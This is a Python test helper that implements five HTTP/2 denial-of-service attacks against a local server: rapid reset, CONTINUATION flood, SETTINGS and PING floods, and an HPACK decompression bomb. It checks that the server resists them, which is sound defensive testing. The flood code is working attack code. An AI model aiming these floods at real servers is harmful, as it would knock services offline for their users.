"""Hostile HTTP/2 clients for http2_floods.rs.

    python3 http2_floods.py ATTACK PORT

Each attack speaks cleartext HTTP/2 with prior knowledge to 127.0.0.1:PORT.
It prints `attacking` once the attack is under way and keeps it up until it
has sent its quota and a line has arrived on standard input (the test's
normal client has been served meanwhile), until the server ends the
connection, or until LIMIT seconds pass. An attack the server ends with a
GOAWAY starts again on a new connection until the test is done, as an
attacker would. Then it reads what the server still sends and prints one
JSON line: the last GOAWAY's error code (None when none came) and how many
came over how many connections, the frames sent, whether the server
stopped reading (its buffers full: TCP pushed back), whether it closed the
connection, and the responses seen.

The rapid reset uses h2's own client state machine; the other attacks send
frames h2 would refuse to send, built with hyperframe and hpack.
"""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
from hpack import Decoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types (RFC 9113, section 6).
HEADERS, RST_STREAM, GOAWAY = 0x1, 0x3, 0x7
LIMIT = 15.0
REQUEST = [
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "127.0.0.1"),
    (":path", "/"),
]


def integer(value, prefix_bits, first_byte=0):
    """An HPACK integer (RFC 7541, section 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def string(text):
    """An HPACK string literal, not Huffman-coded."""
    raw = text.encode()
    return integer(len(raw), 7) + raw


def literal(name, value, indexed=False):
    """A header field with a literal name, added to the dynamic table or
    not (RFC 7541, sections 6.2.1 and 6.2.2)."""
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


# GET / from the static table, :authority literal: the same bytes are a
# valid block on any stream, whatever the decoder's dynamic table holds.
REQUEST_BLOCK = b"\x82\x86\x84" + integer(1, 4) + string("127.0.0.1")


DONE = [False]


def told_done():
    """Whether the test has written its line (or closed the pipe): its
    normal client is done."""
    if not DONE[0]:
        readable, _, _ = select.select([sys.stdin], [], [], 0)
        if readable:
            sys.stdin.readline()
            DONE[0] = True
    return DONE[0]


class Outcome:
    def __init__(self):
        # `goaway` is this connection's, `last_goaway` the last seen on any:
        # a server that closes with the attack's bytes unread makes the
        # kernel reset the connection, which can discard a GOAWAY the
        # attacker had not read yet.
        self.goaway = None
        self.last_goaway = None
        # Whether this connection was reset, and how many were reset before
        # a GOAWAY was read on them.
        self.reset = False
        self.reset_without_goaway = 0
        self.goaway_debug = ""
        self.goaways = 0
        self.connections = 0
        self.sent = 0
        self.blocked = False
        self.closed = False
        self.statuses = {}
        self.resets = {}
        self.started = time.monotonic()

    def goaway_received(self, error_code, debug):
        self.goaways += 1
        self.goaway = self.last_goaway = h2.errors._error_code_from_int(error_code).name
        self.goaway_debug = (debug or b"").decode(errors="replace")

    def announce(self):
        print("attacking", flush=True)

    def report(self):
        print(
            json.dumps(
                {
                    "goaway": self.last_goaway,
                    "goaway_debug": self.goaway_debug,
                    "goaways": self.goaways,
                    "reset_without_goaway": self.reset_without_goaway,
                    "connections": self.connections,
                    "sent": self.sent,
                    "blocked": self.blocked,
                    "closed": self.closed,
                    "statuses": self.statuses,
                    "resets": self.resets,
                    "seconds": round(time.monotonic() - self.started, 3),
                }
            ),
            flush=True,
        )


class Reader:
    """The server's frames, parsed with hyperframe; response heads decoded
    with hpack to count their statuses."""

    def __init__(self, sock, outcome):
        self.sock = sock
        self.outcome = outcome
        self.buffer = b""
        self.received = 0
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 20

    def poll(self, timeout):
        """Reads what arrives within `timeout`; False once the server has
        closed the connection."""
        readable, _, _ = select.select([self.sock], [], [], timeout)
        if not readable:
            return True
        try:
            data = self.sock.recv(1 << 20)
        except ConnectionResetError:
            self.outcome.reset = True
            data = b""
        except BrokenPipeError:
            data = b""
        if not data:
            self.outcome.closed = True
            return False
        self.received += len(data)
        self.buffer += data
        self.parse()
        return True

    def parse(self):
        view = memoryview(self.buffer)
        at = 0
        while len(view) - at >= 9:
            length = int.from_bytes(view[at : at + 3], "big")
            if len(view) - at < 9 + length:
                break
            # Only these tell the outcome; parsing the flood's hundreds of
            # thousands of acknowledgements in Python would take seconds.
            if view[at + 3] in (HEADERS, RST_STREAM, GOAWAY):
                frame, _ = Frame.parse_frame_header(view[at : at + 9])
                frame.parse_body(view[at + 9 : at + 9 + length])
                self.seen(frame)
            at += 9 + length
        view.release()
        self.buffer = self.buffer[at:]

    def seen(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.outcome.goaway_received(frame.error_code, frame.additional_data)
        elif isinstance(frame, HeadersFrame):
            headers = dict(self.decoder.decode(frame.data))
            status = headers.get(b":status", b"?").decode()
            self.outcome.statuses[status] = self.outcome.statuses.get(status, 0) + 1
        elif isinstance(frame, RstStreamFrame):
            name = h2.errors._error_code_from_int(frame.error_code).name
            self.outcome.resets[name] = self.outcome.resets.get(name, 0) + 1

    def drain(self, quiet=1.0, limit=5.0):
        """Reads until the server closes, goes quiet, or `limit` passes."""
        deadline = time.monotonic() + limit
        while time.monotonic() < deadline:
            before = self.received
            if not self.poll(quiet):
                return
            if self.received == before:
                # Nothing new within `quiet`.
                return


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def open_raw(port, outcome):
    sock = connect(port)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock, Reader(sock, outcome)


def flood(sock, reader, outcome, batch, quota, read_between=True):
    """Sends `batch()` (bytes, frame count) until the quota is sent and the
    test is done, or the server pushes back, ends the connection, or the
    time limit passes. The peer reads between batches only if
    `read_between`: a flood whose point is never reading does not."""
    deadline = outcome.started + LIMIT
    done = False
    sock.settimeout(0.5)
    while time.monotonic() < deadline:
        if read_between and (not reader.poll(0) or outcome.goaway):
            return
        if outcome.sent >= quota and done:
            return
        data, frames = batch()
        try:
            sock.sendall(data)
        except socket.timeout:
            outcome.blocked = True
            break
        except ConnectionResetError:
            outcome.reset = outcome.closed = True
            return
        except BrokenPipeError:
            outcome.closed = True
            return
        outcome.sent += frames
        if outcome.sent == frames:
            outcome.announce()
        done = done or told_done()
    # The server stopped reading: stay connected, still not reading, until
    # the test's normal client is done.
    if outcome.sent == 0:
        outcome.announce()
    while not done and time.monotonic() < deadline:
        done = told_done()
        time.sleep(0.05)


def repeated(attack_once):
    """An attacker the server cuts off comes back: `attack_once(port,
    outcome)` on connection after connection, until the test's normal
    client is done, a connection ends without a GOAWAY, or time is up."""

    def attack(port):
        outcome = Outcome()
        while True:
            outcome.goaway = None
            outcome.reset = False
            outcome.connections += 1
            attack_once(port, outcome)
            if outcome.goaway is None and outcome.reset:
                outcome.reset_without_goaway += 1
            elif outcome.goaway is None:
                return outcome
            if told_done():
                return outcome
            if time.monotonic() > outcome.started + LIMIT:
                return outcome

    return attack


@repeated
def rapid_reset(port, outcome):
    """CVE-2023-44487: open a stream and cancel it at once, thousands of
    times, with h2's client."""
    sock = connect(port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    reader = Reader(sock, outcome)
    reader.decoder = None  # h2's connection decodes instead

    def batch():
        for _ in range(100):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, REQUEST, end_stream=True)
            conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        return conn.data_to_send(), 100

    class H2Reader:
        def poll(self, timeout):
            readable, _, _ = select.select([sock], [], [], timeout)
            if not readable:
                return True
            try:
                data = sock.recv(1 << 20)
            except ConnectionResetError:
                outcome.reset = True
                data = b""
            except BrokenPipeError:
                data = b""
            if not data:
                outcome.closed = True
                return False
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    outcome.goaway_received(event.error_code, event.additional_data)
                elif isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers).get(b":status", b"?").decode()
                    outcome.statuses[status] = outcome.statuses.get(status, 0) + 1
                elif isinstance(event, h2.events.StreamReset) and event.remote_reset:
                    name = h2.errors._error_code_from_int(event.error_code).name
                    outcome.resets[name] = outcome.resets.get(name, 0) + 1
            try:
                sock.sendall(conn.data_to_send())
            except (BrokenPipeError, ConnectionResetError, socket.timeout):
                # The server has closed: what h2 owed it (acknowledgements)
                # has nowhere to go.
                outcome.closed = True
                return False
            return True

        def drain(self, quiet=1.0, limit=5.0):
            deadline = time.monotonic() + limit
            while time.monotonic() < deadline and outcome.goaway is None:
                readable, _, _ = select.select([sock], [], [], quiet)
                if not readable or not self.poll(0):
                    return

    h2_reader = H2Reader()
    try:
        flood(sock, h2_reader, outcome, batch, quota=10_000)
    except h2.exceptions.ProtocolError:
        pass  # the connection was closed: no more streams
    h2_reader.drain()
    sock.close()


@repeated
def continuation_flood(port, outcome):
    """CVE-2024-27316 and kin: a HEADERS frame without END_HEADERS, then
    CONTINUATION frames that never end the block."""
    sock, reader = open_raw(port, outcome)
    headers = HeadersFrame(1, REQUEST_BLOCK)
    headers.flags.add("END_STREAM")
    sock.sendall(headers.serialize())
    piece = literal("x-flood", "a" * 1000)

    def batch():
        frames = [ContinuationFrame(1, piece).serialize() for _ in range(10)]
        return b"".join(frames), 10

    flood(sock, reader, outcome, batch, quota=100_000)
    reader.drain()
    sock.close()


def never_reading_flood(port, frame):
    outcome = Outcome()
    sock, reader = open_raw(port, outcome)
    data = frame.serialize() * 1000
    flood(sock, reader, outcome, lambda: (data, 1000), quota=1_000_000, read_between=False)
    reader.drain()
    return outcome


def settings_flood(port):
    """SETTINGS frames, each owed an ACK that is never read."""
    return never_reading_flood(port, SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}))


def ping_flood(port):
    """PING frames, each owed a PING ACK that is never read."""
    return never_reading_flood(port, PingFrame(0, b"12345678"))


@repeated
def hpack_bomb(port, outcome):
    """One 4,000-byte header put in the server's dynamic table, then
    referenced by its one-byte index 12,000 times a block, on stream after
    stream: 48 MB of headers per 16 KB frame."""
    sock, reader = open_raw(port, outcome)
    stream = [1]
    table_entry = literal("x-bomb", "a" * 4000, indexed=True)
    references = b"\xbe" * 12_000  # index 62: the newest dynamic entry

    def batch():
        block = REQUEST_BLOCK + (table_entry if stream[0] == 1 else b"") + references
        headers = HeadersFrame(stream[0], block)
        headers.flags.add("END_HEADERS")
        headers.flags.add("END_STREAM")
        stream[0] += 2
        return headers.serialize(), 1

    flood(sock, reader, outcome, batch, quota=200)
    reader.drain()
    sock.close()


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "hpack-bomb": hpack_bomb,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](int(sys.argv[2])).report()
